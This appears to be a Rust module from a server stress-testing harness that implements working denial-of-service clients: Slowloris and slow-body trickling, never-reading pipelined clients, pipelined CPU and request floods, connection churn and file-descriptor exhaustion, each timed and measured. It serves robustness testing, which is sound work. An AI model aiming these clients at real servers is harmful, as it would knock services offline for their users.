//! The hostile clients. Each attack runs on threads of its own until its
//! deadline, then closes every socket it opened, and says how many it had
//! open at most. Plain blocking sockets and threads: the attacker's own
//! efficiency is not what is measured.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use results::capacity::Counts;
use results::robustness::{Churn, percentile};

/// What an attack does; the counts are sockets or clients.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Kind {
    /// Sockets that each send one byte of a request head every `every`.
    Slowloris { sockets: usize, every: Duration },
    /// Sockets that each send a whole head announcing a 1 MiB body, then
    /// one byte of the body every `every`.
    SlowBody { sockets: usize, every: Duration },
    /// Clients that pipeline requests for 64 KiB answers and never read.
    SlowReader { clients: usize },
    /// One client that pipelines `requests` × `GET /cpu?n=units` in one write.
    PipelinedCpu { requests: usize, units: u64 },
    /// One client that pipelines `GET /` as fast as it can, reading the answers.
    PipelinedFlood,
    /// Clients that each connect, send `POST /echo`, read the answer and
    /// close, over and over.
    Churn { clients: usize },
    /// Connections opened, each asking `GET /` and kept open, to more than
    /// the server's open-file limit (set to `limit` when it starts), then
    /// released halfway through the attack.
    Descriptors { limit: u64, connections: usize },
}

/// What the attacker did.
#[derive(Debug, Default)]
pub struct Done {
    pub most_open: u64,
    pub churn: Option<Churn>,
}

/// Runs the attack against `addr` until `until`.
pub fn run(kind: Kind, addr: SocketAddr, until: Instant) -> Done {
    let most_open = |n: usize| Done {
        most_open: n as u64,
        churn: None,
    };
    match kind {
        Kind::Slowloris { sockets, every } => {
            most_open(trickle(addr, sockets, every, until, false))
        }
        Kind::SlowBody { sockets, every } => most_open(trickle(addr, sockets, every, until, true)),
        Kind::SlowReader { clients } => most_open(never_read(addr, clients, until)),
        Kind::PipelinedCpu { requests, units } => {
            let request = format!("GET /cpu?n={units} HTTP/1.1\r\nHost: hostile\r\n\r\n");
            most_open(pipeline(
                addr,
                request.repeat(requests).as_bytes(),
                false,
                until,
            ))
        }
        Kind::PipelinedFlood => {
            let burst = "GET / HTTP/1.1\r\nHost: hostile\r\n\r\n".repeat(1024);
            most_open(pipeline(addr, burst.as_bytes(), true, until))
        }
        Kind::Churn { clients } => churn(addr, clients, until),
        Kind::Descriptors { connections, .. } => most_open(crowd(addr, connections, until)),
    }
}

fn connect(addr: SocketAddr) -> Option<TcpStream> {
    TcpStream::connect_timeout(&addr, Duration::from_secs(1)).ok()
}

fn sleep_until(at: Instant) {
    thread::sleep(at.saturating_duration_since(Instant::now()));
}

/// Slowloris, and its slow-body variant: `sockets` connections kept open by
/// sending one byte every `every`, and opened again when the server closes
/// one (as a real attacker would, to keep its hold).
fn trickle(addr: SocketAddr, sockets: usize, every: Duration, until: Instant, body: bool) -> usize {
    // A head that never ends: a field whose value goes on for ever.
    const SLOW_HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: hostile\r\nX-Wait: ";
    const BODY_HEAD: &[u8] =
        b"POST /echo HTTP/1.1\r\nHost: hostile\r\nContent-Length: 1048576\r\n\r\n";
    let mut slots: Vec<Option<(TcpStream, usize)>> = (0..sockets).map(|_| None).collect();
    let mut most_open = 0;
    while Instant::now() < until {
        let round = Instant::now() + every;
        for slot in &mut slots {
            *slot = match slot.take() {
                // A fresh connection: the slow body sends its whole head at once.
                None => connect(addr).and_then(|mut stream| {
                    stream.set_nonblocking(true).ok()?;
                    let sent = if body {
                        stream.write(BODY_HEAD).ok()?
                    } else {
                        0
                    };
                    Some((stream, sent))
                }),
                Some((mut stream, sent)) => {
                    let mut scratch = [0u8; 512];
                    match stream.read(&mut scratch) {
                        // Closed, or answered (408): that hold is lost.
                        Ok(_) => None,
                        Err(e) if e.kind() == ErrorKind::WouldBlock => {
                            let byte = if sent < SLOW_HEAD.len() && !body {
                                SLOW_HEAD[sent]
                            } else {
                                b'a'
                            };
                            match stream.write(&[byte]) {
                                Ok(n) => Some((stream, sent + n)),
                                Err(e) if e.kind() == ErrorKind::WouldBlock => Some((stream, sent)),
                                Err(_) => None,
                            }
                        }
                        Err(_) => None,
                    }
                }
            };
        }
        most_open = most_open.max(slots.iter().flatten().count());
        sleep_until(round.min(until));
    }
    most_open
}

/// Clients that pipeline `POST /echo` with 64 KiB bodies, whose answers are
/// as large, as long as the server takes them, and never read a byte.
fn never_read(addr: SocketAddr, clients: usize, until: Instant) -> usize {
    let mut request =
        b"POST /echo HTTP/1.1\r\nHost: hostile\r\nContent-Length: 65536\r\n\r\n".to_vec();
    request.resize(request.len() + 65_536, b'r');
    let mut sockets: Vec<(TcpStream, usize)> = (0..clients)
        .filter_map(|_| connect(addr))
        .filter(|s| s.set_nonblocking(true).is_ok())
        .map(|s| (s, 0))
        .collect();
    let most_open = sockets.len();
    while Instant::now() < until {
        // Write until the server stops taking requests: its answers pile up.
        sockets.retain_mut(|(stream, at)| {
            loop {
                match stream.write(&request[*at..]) {
                    Ok(n) => *at = (*at + n) % request.len(),
                    Err(e) if e.kind() == ErrorKind::WouldBlock => break true,
                    Err(_) => break false,
                }
            }
        });
        sleep_until((Instant::now() + Duration::from_millis(100)).min(until));
    }
    most_open
}

/// One client that writes `burst` once (or, with `again`, over and over)
/// and reads and discards the answers until `until`.
fn pipeline(addr: SocketAddr, burst: &[u8], again: bool, until: Instant) -> usize {
    let Some(stream) = connect(addr) else {
        return 0;
    };
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
    thread::scope(|scope| {
        scope.spawn(|| {
            let mut writer = &stream;
            while Instant::now() < until {
                match writer.write_all(burst) {
                    Ok(()) if !again => break,
                    Err(e) if !matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                        break;
                    }
                    _ => {}
                }
            }
        });
        let mut reader = &stream;
        let mut discard = vec![0u8; 64 * 1024];
        while Instant::now() < until {
            match reader.read(&mut discard) {
                Ok(0) => break,
                Err(e) if !matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => break,
                _ => {}
            }
        }
    });
    1
}

/// Connections that each ask `GET /` and stay open until halfway through
/// the attack, to run the server out of descriptors; then released, so
/// that the server must recover.
fn crowd(addr: SocketAddr, connections: usize, until: Instant) -> usize {
    let halfway = Instant::now() + until.saturating_duration_since(Instant::now()) / 2;
    let mut open = Vec::with_capacity(connections);
    for _ in 0..connections {
        if Instant::now() >= halfway {
            break;
        }
        if let Some(mut stream) = connect(addr) {
            let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: hostile\r\n\r\n");
            open.push(stream);
        }
    }
    let most_open = open.len();
    sleep_until(halfway);
    drop(open);
    sleep_until(until);
    most_open
}

/// Many clients that each connect, send `POST /echo`, read the whole answer
/// and close, over and over, as in seed document 004's benchmark.
fn churn(addr: SocketAddr, clients: usize, until: Instant) -> Done {
    let (completed, turned_away) = (AtomicU64::new(0), AtomicU64::new(0));
    let results: Vec<(Counts, Vec<f64>)> = thread::scope(|scope| {
        let workers: Vec<_> = (0..clients)
            .filter_map(|_| {
                thread::Builder::new()
                    .stack_size(64 * 1024)
                    .spawn_scoped(scope, || {
                        let (mut errors, mut latencies) = (Counts::new(), Vec::new());
                        while Instant::now() < until {
                            let start = Instant::now();
                            match exchange(addr) {
                                Ok(200) => {
                                    completed.fetch_add(1, Ordering::Relaxed);
                                    latencies.push(start.elapsed().as_secs_f64() * 1000.0);
                                }
                                Ok(503) => {
                                    turned_away.fetch_add(1, Ordering::Relaxed);
                                }
                                Ok(status) => {
                                    *errors.entry(format!("status {status}")).or_default() += 1
                                }
                                Err(kind) => *errors.entry(kind.to_string()).or_default() += 1,
                            }
                        }
                        (errors, latencies)
                    })
                    .ok()
            })
            .collect();
        workers.into_iter().filter_map(|w| w.join().ok()).collect()
    });
    let started = results.len();
    let (mut errors, mut latencies) = (Counts::new(), Vec::new());
    for (counts, times) in results {
        counts
            .into_iter()
            .for_each(|(k, n)| *errors.entry(k).or_default() += n);
        latencies.extend(times);
    }
    Done {
        most_open: started as u64,
        churn: Some(Churn {
            clients: clients as u64,
            completed: completed.into_inner(),
            turned_away: turned_away.into_inner(),
            errors,
            p99_ms: percentile(&mut latencies, 99.0),
        }),
    }
}

/// One churn exchange: the status of the answer, or what went wrong.
fn exchange(addr: SocketAddr) -> Result<u16, &'static str> {
    let mut stream =
        TcpStream::connect_timeout(&addr, Duration::from_secs(2)).map_err(|e| match e.kind() {
            ErrorKind::ConnectionRefused => "connect: refused",
            ErrorKind::TimedOut | ErrorKind::WouldBlock => "connect: timeout",
            _ => "connect: other",
        })?;
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    stream
        .write_all(b"POST /echo HTTP/1.1\r\nHost: hostile\r\nContent-Length: 5\r\n\r\nhello")
        .map_err(|_| "send failed")?;
    let mut got = Vec::new();
    let mut chunk = [0u8; 1024];
    loop {
        let n = match stream.read(&mut chunk) {
            Ok(0) => return Err("closed before answering"),
            Ok(n) => n,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                return Err("no answer within 5 s");
            }
            Err(e) if e.kind() == ErrorKind::ConnectionReset => return Err("reset"),
            Err(_) => return Err("receive failed"),
        };
        got.extend_from_slice(&chunk[..n]);
        let mut fields = [httparse::EMPTY_HEADER; 16];
        let mut response = httparse::Response::new(&mut fields);
        match response.parse(&got) {
            Ok(httparse::Status::Complete(head)) => {
                let length = response
                    .headers
                    .iter()
                    .find(|h| h.name.eq_ignore_ascii_case("content-length"))
                    .and_then(|h| std::str::from_utf8(h.value).ok()?.parse::<usize>().ok())
                    .unwrap_or(0);
                if got.len() >= head + length {
                    return response.code.ok_or("bad answer");
                }
            }
            Ok(httparse::Status::Partial) => {}
            Err(_) => return Err("bad answer"),
        }
    }
}
